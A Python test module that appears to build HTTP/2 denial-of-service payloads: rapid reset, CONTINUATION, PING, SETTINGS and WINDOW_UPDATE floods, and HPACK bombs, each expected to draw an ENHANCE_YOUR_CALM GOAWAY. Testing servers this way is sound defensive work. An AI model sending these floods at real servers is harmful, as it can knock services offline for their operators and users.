"""HTTP/2 without end: much that is cheap to send and costs its receiver work, answers or memory."""

from __future__ import annotations

from testkit.attacks.frames import (
    ACK,
    CONTINUATION,
    DATA,
    END_STREAM,
    GET,
    HEADERS,
    NEWEST,
    PING,
    POST,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    field,
    frame,
    remembered,
    request,
)

CANCEL = b"\0\0\0\x08"
ENHANCE_YOUR_CALM = 11
_STREAMS = range(1, 10_000, 2)
_BIG = remembered(b"a", b"x" * 3_900)


FLOODS: dict[str, bytes] = {
    "rapid reset": (
        b"".join(request(GET, stream=one) + frame(RST_STREAM, 0, one, CANCEL) for one in _STREAMS)
    ),
    "rapid reset of bodies": (
        b"".join(
            request(POST, stream=one, ends=False) + frame(RST_STREAM, 0, one, CANCEL)
            for one in _STREAMS
        )
    ),
    "resets of ours, by data": (
        b"".join(
            request(POST + field(b"content-length", b"1"), stream=one, ends=False)
            + frame(DATA, 0, one, b"abc")
            for one in _STREAMS
        )
    ),
    "resets of ours, by dependencies": (
        b"".join(
            request(GET, stream=one) + frame(PRIORITY, 0, one, one.to_bytes(4, "big") + b"\x10")
            for one in _STREAMS
        )
    ),
    "resets of ours, by malformed requests": (
        b"".join(request(GET + field(b"te", b"x"), stream=one) for one in _STREAMS)
    ),
    "requests without a path": (b"".join(request(b"\x82", stream=one) for one in _STREAMS)),
    "more streams than allowed": (
        b"".join(request(POST, stream=one, ends=False) for one in _STREAMS)
    ),
    "empty CONTINUATION": (frame(HEADERS, END_STREAM, 1, GET) + frame(CONTINUATION, 0, 1) * 50_000),
    "CONTINUATION": (
        frame(HEADERS, END_STREAM, 1, GET)
        + frame(CONTINUATION, 0, 1, field(b"a", b"b" * 100)) * 20_000
    ),
    "empty DATA": (request(POST, ends=False) + frame(DATA, 0, 1) * 50_000),
    "PING": (frame(PING, 0, 0, bytes(8)) * 50_000),
    "answers to no PING": (frame(PING, ACK, 0, bytes(8)) * 50_000),
    "SETTINGS": (frame(SETTINGS, 0, 0) * 50_000),
    "PRIORITY": (frame(PRIORITY, 0, 1, b"\0\0\0\x03\x10") * 50_000),
    "tiny windows": (frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01") * 50_000),
    "tiny windows of a stream": (
        request(POST, ends=False) + frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\x01") * 50_000
    ),
    "HPACK bomb": (request(GET + _BIG + NEWEST * 8_000)),
    "HPACK bombs": (
        b"".join(
            request(GET + (_BIG if one == 1 else b"") + NEWEST * 8_000, stream=one)
            for one in (1, 3, 5, 7)
        )
    ),
    "HPACK bomb once settled": (frame(SETTINGS, ACK, 0) + request(GET + _BIG + NEWEST * 8_000)),
}
"""Each ends with a GOAWAY that says ENHANCE_YOUR_CALM."""
